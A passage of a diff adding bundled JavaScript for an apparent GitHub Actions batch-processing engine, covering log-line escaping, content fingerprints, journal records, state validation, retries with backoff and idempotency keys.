+;// CONCATENATED MODULE: ./src/core/run/exit-code.ts
+/**
+ * The exit status of a run: 128 + the signal's number when a signal stopped it (130 for
+ * SIGINT, 143 for SIGTERM, as a shell reports them), 4 for the failure-rate stop, 3 when
+ * the time budget ran out with items left, 1 when any item failed, else 0.
+ */
+function exitCodeFor(ending) {
+    switch (ending.stopReason) {
+        case "signal":
+            return ending.signal === "SIGTERM" ? 143 : 130;
+        case "failure-rate":
+            return 4;
+        case "budget":
+            return 3;
+        default:
+            return ending.failed > 0 || ending.heldFailed > 0 ? 1 : 0;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/platform/log-text.ts
+/**
+ * Item-derived text (ids, error messages, handler output) on its way into a log line.
+ * Such text must not start a line of its own: in GitHub Actions a line of the step's
+ * output that starts with `::` is a workflow command (`::add-mask::`, `::error::`,
+ * `::stop-commands::`), and on a terminal an ESC sequence redraws the screen.
+ */
+/** Longest id written into a log line; the whole id is in failures.json and the reports. */
+const MAX_LOG_ID_CHARS = 80;
+/**
+ * Characters that end a line somewhere (LF, CR, VT, FF, NEL, U+2028/9), other C0/C1
+ * controls (ESC starts terminal sequences), DEL, and lone surrogates (no character at all).
+ */
+const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;
+/** Writes control characters as visible escapes (`\n`, `\r`, `\t`, `\u001b`), so the text stays on one line. */
+function escapeControls(text) {
+    return text.replace(UNSAFE, (c) => SHORT_ESCAPES[c] ?? `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
+}
+const SHORT_ESCAPES = { "\n": "\\n", "\r": "\\r", "\t": "\\t" };
+/** Cuts text to `maxChars` (not inside a surrogate pair), marking the cut with `…`. */
+function shorten(text, maxChars) {
+    if (text.length <= maxChars)
+        return text;
+    let end = maxChars - 1;
+    const last = text.charCodeAt(end - 1);
+    if (last >= 0xd800 && last <= 0xdbff)
+        end--;
+    return text.slice(0, end) + "…";
+}
+/** An id as it appears in a log line: one line, control characters escaped, at most MAX_LOG_ID_CHARS. */
+function logId(id) {
+    return shorten(escapeControls(id), MAX_LOG_ID_CHARS);
+}
+
+;// CONCATENATED MODULE: ./src/core/run/item-log.ts
+
+/** Failures (and retries) logged one by one before the log only counts them. */
+const MAX_ITEM_LOG_LINES = 100;
+/** Longest reason shown on one log line (the whole text is in failures.json). */
+const MAX_REASON_CHARS = 240;
+/** The log lines about single items: the first hundred are written, later ones are not. */
+class ItemLog {
+    log;
+    lines = 0;
+    constructor(log) {
+        this.log = log;
+    }
+    write(message) {
+        if (this.lines < MAX_ITEM_LOG_LINES)
+            this.log.info(message);
+        else if (this.lines === MAX_ITEM_LOG_LINES)
+            this.log.info(`(further failures and retries are not logged one by one; see failures.json)`);
+        this.lines++;
+    }
+}
+/**
+ * One line for the log: a command's stderr tail usually names the cause on its last line,
+ * so a multi-line reason shows its first and last lines (the whole text is in failures.json).
+ */
+function oneLine(text) {
+    const lines = text.split("\n").map((l) => l.trim()).filter(Boolean);
+    const line = lines.length <= 1 ? (lines[0] ?? "") : `${lines[0]} … ${lines[lines.length - 1]}`;
+    // What is left (a CR, an ESC) is item-derived text too: it must not start a line of its own.
+    return shorten(escapeControls(line), MAX_REASON_CHARS + 1);
+}
+
+;// CONCATENATED MODULE: ./src/core/state/fingerprint.ts
+/**
+ * Fingerprints of item content, for `reprocess-changed`: a 48-bit hash of the item's
+ * canonical form — the value as canonical JSON would write it (object keys sorted, no
+ * whitespace), so key order and formatting do not count as a change, values do.
+ *
+ * Not a cryptographic hash: it only has to notice that content changed. With 48 bits a
+ * change goes unnoticed with a chance of 1 in 2^48 (about 3.6e-15) per changed item. It is
+ * computed on every done item of every run with `reprocess-changed`, so it walks the parsed
+ * value without building the canonical string and mixes two 32-bit lanes with Math.imul:
+ * sha256 of the canonical JSON cost more than the rest of a run's per-item work together.
+ *
+ * 48 bits are 6 bytes, 8 base64url characters with no padding: what the journal and the
+ * snapshot store per done item (the snapshot as one column, which compresses to about 6
+ * bytes an item: the characters carry 6 bits each).
+ */
+/** The two lanes of the hash while a value is walked. */
+class Lanes {
+    a = 0x811c9dc5;
+    b = 0x9747b28c;
+    code(c) {
+        this.a = Math.imul(this.a ^ c, 0x01000193);
+        this.b = Math.imul(this.b ^ c, 0x5bd1e995);
+        this.b ^= this.b >>> 13;
+    }
+    text(s) {
+        // The length first: "ab","c" and "a","bc" must not hash alike.
+        this.code(s.length);
+        for (let i = 0; i < s.length; i++)
+            this.code(s.charCodeAt(i));
+    }
+}
+/** Tags that keep values of different types apart ("1" the string, 1 the number). */
+const TAG_NULL = 1, TAG_TRUE = 2, TAG_FALSE = 3, TAG_NUMBER = 4, TAG_STRING = 5, TAG_ARRAY = 6, TAG_OBJECT = 7, TAG_OTHER = 8;
+function walk(lanes, value) {
+    if (value === null)
+        return lanes.code(TAG_NULL);
+    switch (typeof value) {
+        case "string":
+            lanes.code(TAG_STRING);
+            return lanes.text(value);
+        case "number":
+            lanes.code(TAG_NUMBER);
+            // As JSON writes it: 1.0 and 1 are one number; -0 is 0.
+            return lanes.text(Number.isFinite(value) ? String(value === 0 ? 0 : value) : "null");
+        case "boolean":
+            return lanes.code(value ? TAG_TRUE : TAG_FALSE);
+        case "object": {
+            if (Array.isArray(value)) {
+                lanes.code(TAG_ARRAY);
+                lanes.code(value.length);
+                for (const element of value)
+                    walk(lanes, element);
+                return;
+            }
+            const record = value;
+            const keys = sortedKeys(record);
+            lanes.code(TAG_OBJECT);
+            lanes.code(keys.length);
+            for (const key of keys) {
+                // A member whose value JSON would leave out (undefined) is not there.
+                if (record[key] === undefined)
+                    continue;
+                lanes.text(key);
+                walk(lanes, record[key]);
+            }
+            return;
+        }
+        default:
+            lanes.code(TAG_OTHER);
+            return lanes.text(String(value));
+    }
+}
+/** The keys in code-unit order, as canonical JSON (RFC 8785) sorts them; most objects already are. */
+function sortedKeys(record) {
+    const keys = Object.keys(record);
+    for (let i = 1; i < keys.length; i++) {
+        if (keys[i - 1] > keys[i])
+            return keys.sort();
+    }
+    return keys;
+}
+/** 32-bit finaliser (murmur3's fmix32): spreads the last characters over every bit. */
+function mix(h) {
+    h ^= h >>> 16;
+    h = Math.imul(h, 0x85ebca6b);
+    h ^= h >>> 13;
+    h = Math.imul(h, 0xc2b2ae35);
+    return (h ^ (h >>> 16)) >>> 0;
+}
+/** The fingerprint of a value: a whole number below 2^48. */
+function fingerprintOf(value) {
+    const lanes = new Lanes();
+    walk(lanes, value);
+    const low = mix(lanes.a ^ Math.imul(lanes.b, 0x27d4eb2d));
+    const high = mix(lanes.b ^ low) & 0xffff;
+    return high * 0x1_0000_0000 + low;
+}
+/** A fingerprint as the journal writes it: 8 base64url characters. */
+function fingerprintText(fingerprint) {
+    const bytes = Buffer.allocUnsafe(6);
+    bytes.writeUIntBE(fingerprint, 0, 6);
+    return bytes.toString("base64url");
+}
+const FINGERPRINT_TEXT = /^[A-Za-z0-9_-]{8}$/;
+/** Reads fingerprintText's form back; undefined for anything else. */
+function parseFingerprintText(text) {
+    if (typeof text !== "string" || !FINGERPRINT_TEXT.test(text))
+        return undefined;
+    return Buffer.from(text, "base64url").readUIntBE(0, 6);
+}
+/**
+ * Fingerprints in the order of a list of ids, as one base64url string of 8 characters per
+ * id ("" where an id has none would break the column: a missing one is written as 0, which
+ * reads back as "no fingerprint": 0 is given to no value in practice, 1 in 2^48).
+ */
+function encodeFingerprintColumn(ids, fingerprints) {
+    const parts = [];
+    let bytes = Buffer.allocUnsafe(6 * 4096);
+    let used = 0;
+    for (const id of ids) {
+        if (used === bytes.length) {
+            parts.push(bytes.toString("base64url"));
+            bytes = Buffer.allocUnsafe(6 * 4096);
+            used = 0;
+        }
+        bytes.writeUIntBE(fingerprints.get(id) ?? 0, used, 6);
+        used += 6;
+    }
+    parts.push(bytes.subarray(0, used).toString("base64url"));
+    return parts.join("");
+}
+/** Reads a column back into `into`, by position in `ids`; returns how many were set. */
+function decodeFingerprintColumn(column, ids, into) {
+    const bytes = Buffer.from(column, "base64url");
+    let offset = 0;
+    let set = 0;
+    for (const id of ids) {
+        if (offset + 6 > bytes.length)
+            break;
+        const fingerprint = bytes.readUIntBE(offset, 6);
+        offset += 6;
+        if (fingerprint !== 0) {
+            into.set(id, fingerprint);
+            set++;
+        }
+    }
+    return set;
+}
+
+;// CONCATENATED MODULE: ./src/core/input/changes.ts
+
+
+function changeCheck(versionField) {
+    if (versionField === undefined) {
+        return { fingerprint: (item) => fingerprintOf(item.data), problem: () => undefined };
+    }
+    const valueOf = (item) => typeof item.data === "object" && item.data !== null ? fieldValue(item.data, versionField) : undefined;
+    return {
+        versionField,
+        fingerprint: (item) => fingerprintOf(valueOf(item)),
+        problem: (item) => valueOf(item) === undefined
+            ? `no '${versionField}' field, which version-field names (every item needs it to tell whether it changed; check the field name, or drop --version-field to compare whole items)`
+            : undefined,
+    };
+}
+/**
+ * Whether an item done (or failed) in this pass has changed since: its fingerprint differs
+ * from the one recorded then. An item recorded without one (before reprocess-changed was
+ * switched on) takes today's as its baseline: changes count from now on.
+ */
+function hasChanged(state, item, check) {
+    const fingerprint = check.fingerprint(item);
+    const recorded = state.fingerprints.get(item.id);
+    if (recorded === undefined) {
+        state.fingerprints.set(item.id, fingerprint);
+        return false;
+    }
+    return recorded !== fingerprint;
+}
+/**
+ * The item's version within the pass, for its idempotency key: 0 until it changes after
+ * being done or failed; each change makes it one more, so the key differs from before the
+ * change, and stays the same across the retries of that version.
+ */
+function versionOf(state, item, check) {
+    const recorded = state.versions.size === 0 ? 0 : state.versions.get(item.id) ?? 0;
+    if (check === undefined || state.fingerprints.size === 0)
+        return recorded;
+    const fingerprint = state.fingerprints.get(item.id);
+    return fingerprint !== undefined && fingerprint !== check.fingerprint(item) ? recorded + 1 : recorded;
+}
+
+;// CONCATENATED MODULE: ./src/core/state/journal-records.ts
+/** Serialises a done record without JSON.stringify of an object: this is the per-item hot path. */
+function doneLine(id) {
+    // An id JSON.stringify would leave as it is (no quote, backslash, control character or
+    // surrogate) is quoted by hand: the scan costs less than the call, per item.
+    for (let i = 0; i < id.length; i++) {
+        const c = id.charCodeAt(i);
+        if (c < 0x20 || c === 0x22 || c === 0x5c || (c >= 0xd800 && c <= 0xdfff))
+            return '{"t":"done","id":' + JSON.stringify(id) + "}\n";
+    }
+    return '{"t":"done","id":"' + id + '"}\n';
+}
+/** A done record with a fingerprint (reprocess-changed) and a version when it is not 0. */
+function doneLineWithFingerprint(id, fingerprint, version) {
+    const line = doneLine(id);
+    return line.slice(0, -2) + ',"f":"' + fingerprint + '"' + (version === 0 ? "" : ',"v":' + version) + "}\n";
+}
+function recordLine(record) {
+    return JSON.stringify(record) + "\n";
+}
+
+;// CONCATENATED MODULE: ./src/core/state/state-schema.ts
+/**
+ * What a loaded or restored state must satisfy before the engine trusts it. A state comes
+ * back from a cache entry or an artifact that anyone with write access to the repository
+ * (or a bug in an older release) could have shaped, and every field checked here is one
+ * the engine later relies on: a start record without runId broke the next load, a failure
+ * without `item` broke retry-failures, a huge seq would outrank every honest state on restore.
+ */
+/**
+ * The largest sequence number a state may carry. Each run adds one, so this is a run every
+ * minute for 19 years; anything larger was not written by a run, and would win every
+ * later restore (restore takes the highest seq).
+ */
+const MAX_SEQ = 10_000_000;
+/** Attempts and per-run counts: far above anything a run reaches, far below 2^53. */
+const MAX_COUNT = 1_000_000_000_000;
+/** Run ids are GitHub run ids or "local"; attempts are small. */
+const MAX_RUN_ID_CHARS = 200;
+const MAX_RUN_ATTEMPT = 1_000_000;
+/** ISO timestamps and shard labels are short; a long one is not ours. */
+const MAX_SHORT_TEXT_CHARS = 100;
+/**
+ * What one failure keeps of its error text, in UTF-8 bytes: the start (where a module's
+ * message names the cause) and the end (where a command's stderr usually does). 20k
+ * failures with 30 kB of stderr each made a state larger than a JavaScript string.
+ */
+const MAX_ERROR_BYTES = 8 * 1024;
+const ERROR_HEAD_BYTES = 6 * 1024;
+const ERROR_TAIL_BYTES = MAX_ERROR_BYTES - ERROR_HEAD_BYTES - 64;
+const FAILURE_KINDS = new Set(["transient", "permanent", "timeout", "quarantined"]);
+/** "handler-error": a broken --run/--worker stopped the run (issue 12 §1); accepted ahead of its release. */
+const STOP_REASONS = new Set(["complete", "budget", "signal", "failure-rate", "handler-error"]);
+const RUN_MODES = new Set(["run", "retry-failures"]);
+/** Thrown by the checks below; the caller adds where (file:line). */
+class SchemaViolation extends Error {
+}
+/** Shortens an error text to MAX_ERROR_BYTES, keeping its start and its end. */
+function capErrorText(text) {
+    // Most errors are short: a length check in characters (≤ 3 bytes each) settles them.
+    if (text.length * 3 <= MAX_ERROR_BYTES)
+        return text;
+    const bytes = Buffer.from(text, "utf8");
+    if (bytes.length <= MAX_ERROR_BYTES)
+        return text;
+    // Decoding a cut UTF-8 sequence gives U+FFFD at the cut, never an invalid string.
+    const head = bytes.toString("utf8", 0, ERROR_HEAD_BYTES).replace(/\uFFFD$/, "");
+    const tail = bytes.toString("utf8", bytes.length - ERROR_TAIL_BYTES).replace(/^\uFFFD/, "");
+    return `${head}\n… [${bytes.length - ERROR_HEAD_BYTES - ERROR_TAIL_BYTES} bytes cut: errors keep ${MAX_ERROR_BYTES} bytes] …\n${tail}`;
+}
+function isObject(v) {
+    return typeof v === "object" && v !== null && !Array.isArray(v);
+}
+function count(r, key, min = 0, max = MAX_COUNT) {
+    const v = r[key];
+    if (typeof v !== "number" || !Number.isSafeInteger(v) || v < min || v > max) {
+        throw new SchemaViolation(`'${key}' must be a whole number from ${min} to ${max}, not ${state_schema_short(v)}`);
+    }
+    return v;
+}
+function optionalCount(r, key) {
+    return r[key] === undefined ? undefined : count(r, key);
+}
+function state_schema_text(r, key, maxChars = Infinity, allowEmpty = false) {
+    const v = r[key];
+    if (typeof v !== "string" || (!allowEmpty && v === "") || v.length > maxChars) {
+        throw new SchemaViolation(`'${key}' must be a ${allowEmpty ? "" : "non-empty "}string${maxChars < Infinity ? ` of at most ${maxChars} characters` : ""}, not ${state_schema_short(v)}`);
+    }
+    return v;
+}
+function oneOf(r, key, allowed) {
+    const v = r[key];
+    if (typeof v !== "string" || !allowed.has(v))
+        throw new SchemaViolation(`'${key}' must be one of ${[...allowed].join(", ")}, not ${state_schema_short(v)}`);
+    return v;
+}
+function state_schema_short(v) {
+    if (v === undefined)
+        return "missing";
+    const s = JSON.stringify(v) ?? String(v);
+    return s.length > 40 ? s.slice(0, 40) + "…" : s;
+}
+function checkSeq(r, key = "seq") {
+    return count(r, key, 0, MAX_SEQ);
+}
+function checkOrigin(v) {
+    if (!isObject(v))
+        throw new SchemaViolation(`'origin' must be an object, not ${state_schema_short(v)}`);
+    return { seq: checkSeq(v), runId: state_schema_text(v, "runId", MAX_RUN_ID_CHARS, true), runAttempt: count(v, "runAttempt", 0, MAX_RUN_ATTEMPT) };
+}
+/** A done id: a non-empty string. */
+function checkId(v) {
+    if (typeof v !== "string" || v === "")
+        throw new SchemaViolation(`a done id must be a non-empty string, not ${state_schema_short(v)}`);
+    return v;
+}
+function checkRun(r) {
+    const run = {
+        seq: checkSeq(r),
+        runId: state_schema_text(r, "runId", MAX_RUN_ID_CHARS, true),
+        runAttempt: count(r, "runAttempt", 0, MAX_RUN_ATTEMPT),
+        mode: oneOf(r, "mode", RUN_MODES),
+        startedAt: state_schema_text(r, "startedAt", MAX_SHORT_TEXT_CHARS),
+        succeeded: count(r, "succeeded"),
+        failed: count(r, "failed"),
+    };
+    if (r.endedAt !== undefined)
+        run.endedAt = state_schema_text(r, "endedAt", MAX_SHORT_TEXT_CHARS);
+    if (r.stopReason !== undefined)
+        run.stopReason = oneOf(r, "stopReason", STOP_REASONS);
+    const total = optionalCount(r, "total");
+    const remaining = optionalCount(r, "remaining");
+    if (total !== undefined)
+        run.total = total;
+    if (remaining !== undefined)
+        run.remaining = remaining;
+    const pass = optionalCount(r, "pass");
+    if (pass !== undefined)
+        run.pass = pass;
+    const changed = optionalCount(r, "changed");
+    if (changed !== undefined)
+        run.changed = changed;
+    return run;
+}
+/** A failure as a snapshot stores it (FailureRecord's names); its error text is capped. */
+function checkFailure(r) {
+    if (!("item" in r))
+        throw new SchemaViolation(`'item' is missing (retry-failures needs it)`);
+    const f = {
+        id: state_schema_text(r, "id"),
+        error: capErrorText(state_schema_text(r, "error", Infinity, true)),
+        kind: oneOf(r, "kind", FAILURE_KINDS),
+        attempts: count(r, "attempts"),
+        runs: r.runs === undefined ? 1 : count(r, "runs"),
+        firstFailedAt: state_schema_text(r, "firstFailedAt", MAX_SHORT_TEXT_CHARS),
+        lastFailedAt: state_schema_text(r, "lastFailedAt", MAX_SHORT_TEXT_CHARS),
+        item: r.item,
+    };
+    if (r.shard !== undefined)
+        f.shard = state_schema_text(r, "shard", MAX_SHORT_TEXT_CHARS);
+    return f;
+}
+/** A journal line, checked field by field; `t` names its kind. */
+function checkJournalRecord(r) {
+    switch (r.t) {
+        case "done": {
+            const done = { t: "done", id: checkId(r.id) };
+            return { ...done, ...checkVersionFields(r) };
+        }
+        case "pass":
+            return { t: "pass", pass: count(r, "pass", 2), at: state_schema_text(r, "at", MAX_SHORT_TEXT_CHARS) };
+        case "fail":
+            return checkFailRecord(r);
+        case "start": {
+            const start = {
+                t: "start", seq: checkSeq(r), runId: state_schema_text(r, "runId", MAX_RUN_ID_CHARS, true), runAttempt: count(r, "runAttempt", 0, MAX_RUN_ATTEMPT),
+                mode: oneOf(r, "mode", RUN_MODES), at: state_schema_text(r, "at", MAX_SHORT_TEXT_CHARS),
+            };
+            const pass = optionalCount(r, "pass");
+            if (pass !== undefined)
+                start.pass = pass;
+            const repeatMs = optionalCount(r, "repeatMs");
+            if (repeatMs !== undefined)
+                start.repeatMs = repeatMs;
+            return start;
+        }
+        case "end": {
+            const end = {
+                t: "end", seq: checkSeq(r), at: state_schema_text(r, "at", MAX_SHORT_TEXT_CHARS), succeeded: count(r, "succeeded"), failed: count(r, "failed"),
+                stopReason: oneOf(r, "stopReason", STOP_REASONS),
+            };
+            const total = optionalCount(r, "total");
+            const remaining = optionalCount(r, "remaining");
+            if (total !== undefined)
+                end.total = total;
+            if (remaining !== undefined)
+                end.remaining = remaining;
+            const changed = optionalCount(r, "changed");
+            if (changed !== undefined)
+                end.changed = changed;
+            return end;
+        }
+        default:
+            throw new SchemaViolation(`unknown record type ${state_schema_short(r.t)} (written by a newer release?)`);
+    }
+}
+function checkFailRecord(r) {
+    if (!("item" in r))
+        throw new SchemaViolation(`'item' is missing (retry-failures needs it)`);
+    const rec = {
+        t: "fail", id: state_schema_text(r, "id"), kind: oneOf(r, "kind", FAILURE_KINDS), error: capErrorText(state_schema_text(r, "error", Infinity, true)),
+        attempts: count(r, "attempts"), runs: r.runs === undefined ? 1 : count(r, "runs"),
+        first: state_schema_text(r, "first", MAX_SHORT_TEXT_CHARS), last: state_schema_text(r, "last", MAX_SHORT_TEXT_CHARS), item: r.item,
+    };
+    if (r.shard !== undefined)
+        rec.shard = state_schema_text(r, "shard", MAX_SHORT_TEXT_CHARS);
+    return { ...rec, ...checkVersionFields(r) };
+}
+/** A done or fail record's fingerprint ("f", 8 base64url characters) and version ("v"). */
+function checkVersionFields(r) {
+    const fields = {};
+    if (r.f !== undefined) {
+        if (typeof r.f !== "string" || !/^[A-Za-z0-9_-]{8}$/.test(r.f))
+            throw new SchemaViolation(`'f' must be 8 base64url characters, not ${state_schema_short(r.f)}`);
+        fields.f = r.f;
+    }
+    const version = optionalCount(r, "v");
+    if (version !== undefined)
+        fields.v = version;
+    return fields;
+}
+
+;// CONCATENATED MODULE: ./src/core/run/outcome-recorder.ts
+
+
+
+
+
+
+
+/** The failure-rate stop needs this many finished items before it judges. */
+const MIN_ITEMS_FOR_FAILURE_RATE = 20;
+/**
+ * Records each item's outcome as it arrives — a success or a failure in the journal and
+ * the state, a cut-off item not at all (it stays pending) — and stops the run early when
+ * too large a share of the finished items failed.
+ */
+class OutcomeRecorder {
+    options;
+    sinks;
+    /** Failures this run that a next normal run will not retry (permanent or quarantined). */
+    failedFinal = 0;
+    constructor(options, sinks) {
+        this.options = options;
+        this.sinks = sinks;
+    }
+    record(item, outcome) {
+        if (outcome.status === "done")
+            this.recordDone(item);
+        else if (outcome.status === "failed") {
+            this.recordFailure(item, outcome);
+            this.stopIfFailureRateTooHigh();
+        }
+        // "cutoff": not an outcome; the item stays pending for the next run.
+    }
+    recordDone(item) {
+        const { changes } = this.options;
+        if (changes === undefined) {
+            this.sinks.journal.append(doneLine(item.id));
+            this.sinks.state.markDoneInRun(item.id);
+        }
+        else {
+            const { state } = this.sinks;
+            // The version before the fingerprint moves on: the one the handler's key was made of.
+            const version = versionOf(state, item, changes);
+            const fingerprint = changes.fingerprint(item);
+            this.sinks.journal.append(doneLineWithFingerprint(item.id, fingerprintText(fingerprint), version));
+            state.markDoneAgainInRun(item.id);
+            state.fingerprints.set(item.id, fingerprint);
+            if (version > 0)
+                state.versions.set(item.id, version);
+        }
+        this.sinks.meter.succeeded++;
+    }
+    /** With reprocess-changed: the fingerprint and version a fail record carries. */
+    versionFields(item) {
+        const { changes } = this.options;
+        if (changes === undefined)
+            return {};
+        const version = versionOf(this.sinks.state, item, changes);
+        return { f: fingerprintText(changes.fingerprint(item)), ...(version > 0 ? { v: version } : {}) };
+    }
+    recordFailure(item, outcome) {
+        const { state, journal, meter } = this.sinks;
+        const prior = state.failures.get(item.id);
+        const runs = (prior?.runs ?? 0) + 1;
+        let kind = outcome.kind;
+        if ((kind === "transient" || kind === "timeout") && runs >= this.options.maxRunsPerItem)
+            kind = "quarantined";
+        const now = isoNow(this.options.system);
+        const record = {
+            t: "fail", id: item.id, kind, error: capErrorText(outcome.error), attempts: (prior?.attempts ?? 0) + outcome.attempts, runs,
+            first: prior?.firstFailedAt ?? now, last: now, item: item.data,
+            ...(this.options.shardLabel === undefined ? {} : { shard: this.options.shardLabel }),
+            ...this.versionFields(item),
+        };
+        journal.append(recordLine(record));
+        state.apply(record);
+        meter.failed++;
+        if (kind === "permanent" || kind === "quarantined")
+            this.failedFinal++;
+        const quarantine = kind === "quarantined" ? ` after failing in ${runs} runs` : "";
+        this.sinks.itemLog.write(`✗ ${logId(item.id)}: ${oneLine(outcome.error)} (${kind}${quarantine}, ${record.attempts} attempt(s))`);
+    }
+    stopIfFailureRateTooHigh() {
+        const { meter, stop } = this.sinks;
+        const { maxFailureRate } = this.options;
+        const finished = meter.succeeded + meter.failed;
+        if (maxFailureRate === undefined || finished < MIN_ITEMS_FOR_FAILURE_RATE || meter.failed / finished <= maxFailureRate)
+            return;
+        if (!stop.soft.signal.aborted) {
+            this.options.log.error(`${meter.failed} of ${finished} items failed (more than max-failure-rate ${maxFailureRate}): stopping early, something upstream looks broken`);
+        }
+        stop.request("failure-rate", this.options.shutdownGraceMs);
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/run/backoff.ts
+function backoffDelayMs(failedAttempt, policy, random, retryAfterMs) {
+    const exponent = Math.min(Math.max(failedAttempt - 1, 0), 52);
+    const ceilingMs = Math.min(policy.maxMs, policy.baseMs * 2 ** exponent);
+    const jittered = ceilingMs * (0.5 + random() * 0.5);
+    const delay = retryAfterMs !== undefined ? Math.max(jittered, retryAfterMs) : jittered;
+    return Math.round(delay);
+}
+
+;// CONCATENATED MODULE: external "node:crypto"
+const external_node_crypto_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:crypto");
+;// CONCATENATED MODULE: ./src/core/run/idempotency.ts
+
+/**
+ * A stable idempotency key for an item: the same for every attempt and every run of one
+ * pass, and independent of shard count or item order. Namespaced (by the state key in the
+ * action) so that two batches with overlapping ids do not share keys.
+ *
+ * The key names the batch, the item, the pass and the item's version (how many times the
+ * item changed within the pass, with `reprocess-changed`), so a deliberate re-process is a
+ * new operation downstream and a repeat of the same operation is not. Pass 1 of an item
+ * that never changed keeps the key releases before passes gave it (namespace, NUL, id):
+ * upgrading must not turn finished work into new operations for an API that stores keys.
+ */
+function idempotencyKey(id, namespace = "", pass = 1, version = 0) {
+    const hash = (0,external_node_crypto_namespaceObject.createHash)("sha256").update(namespace).update("\0").update(id);
+    if (pass !== 1 || version !== 0)
+        hash.update("\0").update(`pass ${pass} version ${version}`);
+    return hash.digest("hex").slice(0, 32);
+}
+
+;// CONCATENATED MODULE: ./src/core/run/item-runner.ts
+
+
+
+
+/**
+ * The context a handler sees. A class with a lazy key, because hashing the id costs about
+ * a microsecond — as much as the rest of the engine's per-item work — and most module
+ * handlers never read it.
+ */
+class Context {
+    id;
+    attempt;
+    signal;
+    stopping;
+    key;
+    TransientError = TransientError;
+    PermanentError = PermanentError;
+    constructor(id, attempt, signal, stopping, o, item) {
+        this.id = id;
+        this.attempt = attempt;
+        this.signal = signal;
+        this.stopping = stopping;
+        this.#o = o;
+        this.#item = item;
+    }
+    // Truly private (#): a handler that spreads or prints its ctx must not meet the run's options.
+    #o;
+    #item;
+    get idempotencyKey() {
+        const o = this.#o;
+        return (this.key ??= idempotencyKey(this.id, o.idempotencyNamespace, o.pass ?? 1, o.versionOf ? o.versionOf(this.#item) : 0));
+    }
+}
+/**
+ * Runs one item to an outcome: retries transient failures and timeouts with backoff
+ * while attempts, the budget and the run allow; a permanent failure ends at once.
+ * @param priorAttempts attempts made in earlier runs (so ITEM_ATTEMPT keeps counting)
+ */
+function runItem(item, priorAttempts, o) {
+    if (o.itemTimeoutMs !== undefined || o.maxAttempts < 1)
+        return runAttempts(item, priorAttempts, o, undefined);
+    // The common case — a first attempt without an item timeout — as one `then` rather than
+    // an async function: most items end here, and the async frame with its await cost about
+    // as much as the rest of the runner. A failure goes on in runAttempts, unchanged.
+    const timed = o.budget.deadlineAtMs !== undefined;
+    const startedAtMs = timed ? o.system.nowMs() : 0;
+    let run;
+    try {
+        run = o.handler.run(item, new Context(item.id, priorAttempts + 1, o.hard, o.soft, o, item));
+    }
+    catch (error) {
+        return Promise.reject(error);
+    }
+    return settle(run, o.hard, o).then((result) => {
+        if (!result.ok)
+            return runAttempts(item, priorAttempts, o, { result, startedAtMs });
+        if (timed)
+            o.budget.observe(o.system.nowMs() - startedAtMs);
+        return DONE_AT_FIRST;
+    });
+}
+const DONE_AT_FIRST = Object.freeze({ status: "done", attempts: 1 });
+/** The attempts loop; `first` is the first attempt's result when runItem already made it. */
+async function runAttempts(item, priorAttempts, o, first) {
+    let last;
+    let made = 0;
+    for (let n = 1; n <= o.maxAttempts; n++) {
+        if (n > 1 && o.soft.aborted)
+            return { status: "cutoff", attempts: n - 1 };
+        // Without a deadline the budget never reads what it observes: spare the clock.
+        const timed = o.budget.deadlineAtMs !== undefined;
+        let startedAtMs = timed ? o.system.nowMs() : 0;
+        let result;
+        let timedOut = false;
+        if (n === 1 && first !== undefined) {
+            ({ result, startedAtMs } = first);
+        }
+        else if (o.itemTimeoutMs === undefined) {
+            result = await settle(o.handler.run(item, new Context(item.id, priorAttempts + n, o.hard, o.soft, o, item)), o.hard, o);
+        }
+        else {
+            ({ result, timedOut } = await attemptWithTimeout(item, priorAttempts + n, o, o.itemTimeoutMs));
+        }
+        made = n;
+        if (result.ok) {
+            if (timed)
+                o.budget.observe(o.system.nowMs() - startedAtMs);
+            return { status: "done", attempts: n };
+        }
+        if (o.hard.aborted && !timedOut)
+            return { status: "cutoff", attempts: n - 1 };
+        last = timedOut ? { ok: false, kind: "timeout", error: `timed out after ${o.itemTimeoutMs}ms${result.error ? ` (${result.error})` : ""}` } : result;
+        if (last.kind === "timeout" || last.kind === "transient")
+            o.budget.observe(o.system.nowMs() - startedAtMs);
+        if (last.kind === "permanent" || n === o.maxAttempts)
+            break;
+        const delayMs = backoffDelayMs(n, o.backoff, o.system.random, last.retryAfterMs);
+        if (!o.budget.fitsWait(o.system.nowMs(), delayMs)) {
+            last = { ...last, error: `${last.error} (not retried: the time budget would not cover the ${Math.round(delayMs)}ms backoff; the next run retries it)` };
+            return { status: "failed", kind: last.kind, error: last.error, attempts: n };
+        }
+        o.onRetry?.(item, priorAttempts + n, last, delayMs);
+        if (last.throttled)
+            o.onThrottle?.(delayMs);
+        await sleepMs(o.system, delayMs, o.soft);
+        if (o.soft.aborted)
+            return { status: "cutoff", attempts: n };
+    }
+    const failure = last;
+    return { status: "failed", kind: failure.kind, error: failure.error, attempts: made };
+}
+const ABANDONED = Object.freeze({ ok: false, kind: "timeout", error: "the handler did not stop when asked" });
+async function attemptWithTimeout(item, attemptNumber, o, itemTimeoutMs) {
+    const timeout = new AbortController();
+    const cancelTimer = o.system.setTimer(() => timeout.abort(), itemTimeoutMs);
+    const signal = AbortSignal.any([o.hard, timeout.signal]);
+    try {
+        const ctx = new Context(item.id, attemptNumber, signal, o.soft, o, item);
+        const result = await settle(o.handler.run(item, ctx), signal, o);
+        return { result, timedOut: timeout.signal.aborted && !result.ok };
+    }
+    finally {
+        cancelTimer();
+    }
+}
+/**
+ * Waits for the handler; once its signal fires, waits at most abandonAfterMs more. A
+ * module that ignores its AbortSignal must not hold the run (or the shutdown) forever.
+ */
+function settle(run, signal, o) {
+    if (signal.aborted)
+        return withAbandon(run, o);
+    return new Promise((resolve) => new Settling(resolve, o, watchersOf(signal)).watch(run));
+}
+/**
+ * One attempt waiting for its handler. An object in the signal's watch list rather than
+ * an abort closure and an unwatch closure: fewer allocations on the per-item path.
+ */
+class Settling {
+    resolve;
+    o;
+    watching;
+    cancelAbandon;
+    /** Neighbours in the watch list while listed (see WatchList). */
+    prev;
+    next;
+    listed = false;
+    constructor(resolve, o, watching) {
+        this.resolve = resolve;
+        this.o = o;
+        this.watching = watching;
+    }
+    watch(run) {
+        this.watching.add(this);
